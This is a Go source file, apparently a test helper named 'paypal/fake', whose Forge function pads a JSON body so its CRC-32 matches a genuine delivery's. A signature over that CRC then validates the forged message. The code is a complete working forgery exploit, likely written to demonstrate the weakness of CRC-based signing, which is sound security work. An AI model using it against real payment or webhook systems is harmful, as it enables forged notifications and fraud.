package fake

import (
	"bytes"
	"hash/crc32"
)

// Forge pads a JSON object so that it has the CRC-32 of a genuine body: what a stranger can do who has seen one delivery.
// The signature over that delivery is then as good for the forged one.
func Forge(genuine, object []byte) []byte {
	object = bytes.TrimSpace(object)
	body := append(bytes.Clone(object[:len(object)-1]), `,"pad":"`...)
	from := len(body)
	body = append(append(body, bytes.Repeat([]byte{'@'}, 64)...), `"}`...)
	// A CRC is linear: turning a bit of the padding always turns the same bits of it. Which of them have to be turned is a
	// system of 32 equations over the 64 letters that may each be @ or A.
	base := crc32.ChecksumIEEE(body)
	type row struct {
		turns uint32 // bits of the CRC
		by    uint64 // letters
	}
	var basis [32]row
	reduce := func(r row) (row, int) {
		for bit := 31; bit >= 0; bit-- {
			if r.turns&(1<<bit) == 0 {
				continue
			}
			if basis[bit].by == 0 {
				return r, bit
			}
			r.turns, r.by = r.turns^basis[bit].turns, r.by^basis[bit].by
		}
		return r, -1
	}
	for n := range 64 {
		body[from+n] ^= 1
		r, bit := reduce(row{crc32.ChecksumIEEE(body) ^ base, 1 << n})
		body[from+n] ^= 1
		if bit >= 0 {
			basis[bit] = r
		}
	}
	wanted, missing := reduce(row{turns: crc32.ChecksumIEEE(genuine) ^ base})
	if missing >= 0 {
		panic("paypal/fake: the padding is too short")
	}
	for n := range 64 {
		body[from+n] ^= byte(wanted.by >> n & 1)
	}
	return body
}
